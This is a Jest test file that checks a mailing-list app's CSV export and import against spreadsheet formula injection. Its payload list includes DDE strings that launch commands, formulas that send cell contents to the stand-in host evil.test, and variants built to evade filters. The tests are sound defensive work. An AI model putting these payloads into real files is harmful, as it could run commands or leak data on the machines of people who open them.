import { describe, expect, it } from '@jest/globals';
import { StreamingCsvReader } from '../../../adapters/csv/reader.ts';
import { withoutGuard } from '../../../core/audience/import/csv.ts';
import { ImportWorld } from '../audience/import/import-world.ts';
import { ExportWorld } from './export-world.ts';

/** Cells by which a file would do something where it is opened, and some that only look so. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.test/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://evil.test")',
  '=DDE("cmd";"/C calc";"x")',
  "=@SUM(1+9)*cmd|' /C calc'!A0",
  '==1',
  '= 1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+49 30 1234',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-5',
  '@SUM(1+1)',
  '@home',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttabbed',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  '",=1+1',
  '";=1+1',
  'x\r\n=1+1',
  'x\n=1+1,y',
  'x;=1+1',
  'x\t=1+1',
  'x|=1+1',
  '<script>alert(1)</script>',
  '%0A=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
];
/** What spreadsheets begin a formula with, also behind blanks and in full width. */
const RUNS = /^\s*[=+\-@\t\r\n＝＋－＠]/;

async function cellsOf(file: string): Promise<string[][]> {
  async function* bytes() {
    yield Buffer.from(file.replace(/^\ufeff/, ''));
  }
  const found: string[][] = [];
  const form = { encoding: 'utf-8', delimiter: ',' };
  for await (const { records } of new StreamingCsvReader().read(bytes(), form)) found.push(...records);
  return found.filter((record) => record.length > 1);
}

describe('a cell that a spreadsheet would run', () => {
  it('stands in an export as text, whatever it is, and is what it was without its apostrophe', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    const world = await ExportWorld.of(PAYLOADS.map((note, i) => ({ email: `r${i}@x.test`, data: { note } })));
    const rows = (await cellsOf(await world.file(await world.begin({ of: 'list', listId: world.listId })))).slice(1);
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const [email = '', cell = ''] of rows) {
      expect([cell, RUNS.test(cell)]).toEqual([cell, false]);
      expect(withoutGuard(cell)).toBe(PAYLOADS[Number(/\d+/.exec(email)?.[0])]);
    }
  });

  it('in the name of a column is text, too', async () => {
    const world = await ExportWorld.of([{ email: 'a@x.test', data: { '=cmd|x': 'y' } }]);
    const file = await world.file(await world.begin({ of: 'list', listId: world.listId }));
    expect(file).toContain('email,"\'=cmd|x"\r\n');
  });

  it('is imported as the text that it is, and in the file of bad rows it is guarded', async () => {
    const world = await ImportWorld.make();
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const good = PAYLOADS.map((note, i) => `r${i}@x.test,${quoted(`a${note}`)}`);
    const bad = PAYLOADS.map((note) => `nobody,${quoted(note)}`);
    const importId = await world.upload(['email,note', ...good, ...bad].join('\r\n'));
    await world.invoke(importId);
    expect(await world.show(importId)).toMatchObject({ added: PAYLOADS.length, invalid: PAYLOADS.length });
    const members = (await world.members()) as Record<string, { note: string }>;
    for (const [i, note] of PAYLOADS.entries()) expect(members[`r${i}@x.test`]?.note).toBe(`a${note}`.trimEnd());
    const report = await cellsOf((await world.badRows(importId)) ?? '');
    expect(report).toHaveLength(PAYLOADS.length + 1);
    for (const cells of report) for (const cell of cells) expect([cell, RUNS.test(cell)]).toEqual([cell, false]);
  });
});
